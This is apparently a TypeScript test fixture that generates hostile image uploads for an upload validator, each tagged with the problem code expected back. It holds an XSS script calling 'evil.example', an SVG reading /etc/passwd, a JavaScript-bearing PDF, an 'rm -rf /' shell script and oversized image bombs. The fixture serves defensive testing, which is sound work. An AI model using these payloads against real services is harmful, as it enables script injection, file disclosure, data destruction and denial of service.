// Files that somebody might upload instead of a picture: broken ones, others dressed as pictures, and bombs.
import { deflateSync } from 'node:zlib'
import type { ProblemCode } from '../domain/basics/problems.ts'
import { uploadTypes, type UploadType } from '../domain/menu/picture.ts'
import { createRandom, type Random } from '../server/demo/random.ts'
import { drawn } from './drawn-pictures.ts'
import { blackPng, boastfulPng, headOf, pngOf } from './png-chunks.ts'

export interface HostilePicture {
  readonly name: string
  /** The type that the request claims. */
  readonly type: UploadType
  readonly bytes: Buffer
  readonly due: Extract<ProblemCode, 'not-a-picture' | 'picture-unreadable'>
}

/** More than two hundred files; the same seed gives the same files. */
export async function hostilePictures(seed = 1995): Promise<HostilePicture[]> {
  const random = createRandom(seed)
  return [...dressed(), ...atRandom(random), ...masks(random), ...(await truncated()), ...(await bombs())]
}

const text = (words: string) => Buffer.from(words, 'latin1')
const script = '<script>fetch("//evil.example")</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>`

/** Files of other kinds, recognizable by their first bytes. */
const strangers: Readonly<Record<string, Buffer>> = {
  nothing: Buffer.alloc(0),
  'a byte': text('\xff'),
  'half a head': text('\xff\xd8'),
  svg: text(svg),
  'svg with a head': text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "${'x'.repeat(99)}">]>${svg}`),
  'packed svg': Buffer.concat([text('\x1f\x8b\x08\0'), deflateSync(svg)]),
  html: text(`<!doctype html><html>${script}</html>`),
  pdf: text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`),
  gif: text(
    'GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
  ),
  tiff: text('II*\0\x08\0\0\0\0\0\0\0\0\0'),
  bmp: text('BM\x1e\0\0\0\0\0\0\0\x1a\0\0\0\x0c\0\0\0\x01\0\x01\0\x01\0\x18\0\0\0\xff\0'),
  heic: text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
  'a film': text('\0\0\0\x18ftypisom\0\0\x02\0isomiso2'),
  'a sound': text('RIFF\x24\0\0\0WAVEfmt '),
  zip: text('PK\x03\x04\x14\0\0\0\x08\0'),
  program: text('\x7fELF\x02\x01\x01\0'),
  json: text('{"picture":"photo"}'),
  'shell script': text('#!/bin/sh\nrm -rf /\n'),
}

function dressed(): HostilePicture[] {
  return Object.entries(strangers).flatMap(([name, bytes]) =>
    uploadTypes.map((type) => ({ name: `${name} as ${type}`, type, bytes, due: 'not-a-picture' as const })),
  )
}

function atRandom(random: Random): HostilePicture[] {
  return Array.from({ length: 30 }, (_, nth) => ({
    name: `random bytes ${nth}`,
    type: 'jpeg',
    bytes: randomBytes(random, random.whole(1, 5_000), 0x20),
    due: 'not-a-picture',
  }))
}

/** The first byte is lower than the first byte of any picture format. */
function randomBytes(random: Random, length: number, first?: number): Buffer {
  const bytes = Buffer.from(Array.from({ length }, () => random.whole(0, 255)))
  if (first !== undefined) bytes[0] = first
  return bytes
}

const heads: Readonly<Record<UploadType, Buffer>> = {
  jpeg: text('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
  png: text('\x89PNG\r\n\x1a\n'),
  webp: text('RIFF\xff\0\0\0WEBPVP8 '),
  avif: text('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf'),
}

/** The header of a picture in front of something else. */
function masks(random: Random): HostilePicture[] {
  const bodies = { html: text(script), svg: text(svg), pdf: strangers['pdf'], zip: strangers['zip'] }
  return uploadTypes.flatMap((type) =>
    Object.entries({ ...bodies, noise: randomBytes(random, 400), nothing: Buffer.alloc(0) }).map(
      ([name, body = Buffer.alloc(0)]) => ({
        name: `${name} behind the head of a ${type}`,
        type,
        bytes: Buffer.concat([heads[type], body]),
        due: 'picture-unreadable' as const,
      }),
    ),
  )
}

async function truncated(): Promise<HostilePicture[]> {
  const places = Array.from({ length: 18 }, (_, nth) => 0.05 + nth * 0.05)
  const whole = drawn({ width: 400, height: 300 })
  const files = await Promise.all(
    uploadTypes.map(async (type) => ({ type, bytes: await whole.clone()[type]().toBuffer() })),
  )
  return files.flatMap(({ type, bytes }) =>
    places.map((share) => ({
      name: `${type} cut off at ${Math.round(share * 100)} %`,
      type,
      bytes: bytes.subarray(0, Math.max(64, Math.round(bytes.length * share))),
      due: 'picture-unreadable' as const,
    })),
  )
}

async function bombs(): Promise<HostilePicture[]> {
  const small = drawn({ width: 64, height: 64 })
  const [jpeg, webp, avif] = await Promise.all([
    small.clone().jpeg().toBuffer(),
    small
      .clone()
      .withExif({ IFD0: { Copyright: 'x' } })
      .webp()
      .toBuffer(),
    small.clone().avif().toBuffer(),
  ])
  const sides = [
    [20_000, 20_000],
    [65_535, 65_535],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [1, 60_000_000],
    [60_000_000, 1],
    [0, 0],
  ] as const
  const made: Readonly<Record<string, readonly [UploadType, Buffer]>> = {
    ...Object.fromEntries(
      sides.map(([width, height]) => [
        `a pixel that claims to be ${width} × ${height}`,
        ['png', boastfulPng({ width, height })],
      ]),
    ),
    '20,000 × 20,000 in 50 kB': ['png', blackPng({ width: 20_000, height: 20_000, depth: 1 })],
    'a little over 50 megapixels': ['png', blackPng({ width: 7_100, height: 7_100 })],
    'a PNG without pixels': ['png', pngOf([headOf({ width: 9, height: 9 })])],
    'a JPEG that claims to be 65,500 wide': ['jpeg', boastfulJpeg(jpeg)],
    'a WebP that claims to be 16,384 wide': ['webp', boastfulWebp(webp)],
    'an AVIF that claims to be 20,000 wide': ['avif', boastfulAvif(avif)],
  }
  return Object.entries(made).map(([name, [type, bytes]]) => ({
    name,
    type,
    bytes,
    due: 'picture-unreadable',
  }))
}

/** The height and width stand behind the marker of the first frame. */
function boastfulJpeg(bytes: Buffer): Buffer {
  const at = bytes.indexOf(text('\xff\xc0'))
  const changed = Buffer.from(bytes)
  changed.writeUInt16BE(65_500, at + 5)
  changed.writeUInt16BE(65_500, at + 7)
  return changed
}

/** One less than the width and the height of the canvas, in three bytes each. */
function boastfulWebp(bytes: Buffer): Buffer {
  const changed = Buffer.from(bytes)
  changed.writeUIntLE(16_383, 24, 3)
  changed.writeUIntLE(16_383, 27, 3)
  return changed
}

function boastfulAvif(bytes: Buffer): Buffer {
  const at = bytes.indexOf('ispe') + 8
  const changed = Buffer.from(bytes)
  changed.writeUInt32BE(20_000, at)
  changed.writeUInt32BE(20_000, at + 4)
  return changed
}
